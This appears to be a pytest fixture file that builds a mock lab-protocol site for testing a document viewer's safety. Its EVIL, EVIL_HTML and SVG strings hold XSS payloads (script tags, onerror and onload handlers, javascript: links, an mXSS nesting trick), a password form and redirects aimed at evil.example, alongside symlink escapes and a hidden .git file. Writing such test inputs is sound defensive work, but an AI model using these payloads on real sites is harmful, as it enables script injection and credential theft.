"""A lab's documents with everything in them that could do harm."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from PIL import Image

INDEX = """\
# Protocols of the lab

Begin with [PCR](pcr/01_setup.md) or the [site](../site/).
"""
SETUP = """\
# PCR set-up

![a gel](../pictures/gel%20one.png)

## Reagents

| what | µl |
|---|--:|
| Buffer | 10 |
| Müller's mix | 2 |

- [ ] gloves
- [x] bench wiped

## Programme

```python
def cycles(count: int) -> list[int]:  # as on the machine
    return [95, 60, 72] * count
```

!!! warning "Hot"
    The lid is at 105 °C.

Do it in the morning[^1].

[^1]: The rotor is free then.
"""
# What somebody could write to act for whoever reads it.
EVIL = """\
# Evil

<script>document.title = "pwned"</script>
<img src="x" onerror="document.title = 'pwned'">
<svg onload="document.title = 'pwned'"><script>document.title = "pwned"</script></svg>
<a id="link" href="javascript:document.title='pwned'">press</a>
[press](javascript:document.title='pwned')
<iframe src="/services/docs/"></iframe>
<form action="https://evil.example"><input name="password"><button>Log in</button></form>
<style>body { display: none }</style>
<div class="notice bad" style="position:fixed" onclick="document.title='pwned'">text</div>
<math><mtext><table><mglyph><style><img src onerror="document.title='pwned'">
"""
EVIL_HTML = """\
<!doctype html><title>Evil site</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<script>document.title = "pwned"</script>
<script src="/services/docs/site/evil.js"></script>
<link rel="stylesheet" href="style.css">
<body onload="document.title='pwned'"><h1>A site</h1>
<img src="pictures.svg" onerror="document.title='pwned'" alt="">
<img id="gel" src="gel.png" alt="">
<a id="link" href="javascript:document.title='pwned'">press</a>
<form action="/services/docs/"><button id="send">send</button></form>
<iframe src="evil.svg"></iframe><object data="evil.svg"></object><embed src="evil.svg">
<p>Freezing cells</p></body>
"""
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    "<script>document.title='pwned'; top.document.title='pwned'</script></svg>"
)


def picture(path: Path) -> None:
    path.parent.mkdir(exist_ok=True)
    Image.linear_gradient("L").save(path)


def fill(folder: Path) -> Path:
    """Write two sections, ``sops`` and ``site``, and what must never be shown."""
    sops, site = folder / "sops", folder / "site"
    (sops / "pcr").mkdir(parents=True)
    site.mkdir()
    (sops / "index.md").write_text(INDEX)
    (sops / "pcr" / "01_setup.md").write_text(SETUP)
    (sops / "pcr" / "02_run.md").write_text("---\ntitle: Run it\n---\n\nPress start.\n")
    (sops / "pcr" / "10_clean.md").write_text("No heading here.\n")
    (sops / "evil.md").write_text(EVIL)
    (sops / "plan.pdf").write_bytes(b"%PDF-1.4\n")
    (sops / "data.bin").write_bytes(bytes(range(256)) * 4)
    picture(sops / "pictures" / "gel one.png")
    (site / "index.html").write_text(EVIL_HTML)
    (site / "evil.js").write_text('document.title = "pwned"')
    (site / "style.css").write_text("h1 { color: rgb(1, 2, 3) }")
    (site / "evil.svg").write_text(SVG)
    picture(site / "gel.png")
    secret = folder / "secret.md"
    secret.write_text("# Top secret zebrafish\n")
    (sops / ".hidden.md").write_text("# Hidden zebrafish\n")
    (sops / ".git").mkdir()
    (sops / ".git" / "config").write_text("zebrafish")
    (sops / "link.md").symlink_to(secret)
    (sops / "inside.md").symlink_to(sops / "index.md")
    (sops / "up").symlink_to(folder)
    os.mkfifo(sops / "pipe.md")
    return folder


@pytest.fixture
def documents(tmp_path: Path) -> Path:
    return fill(tmp_path / "shared")
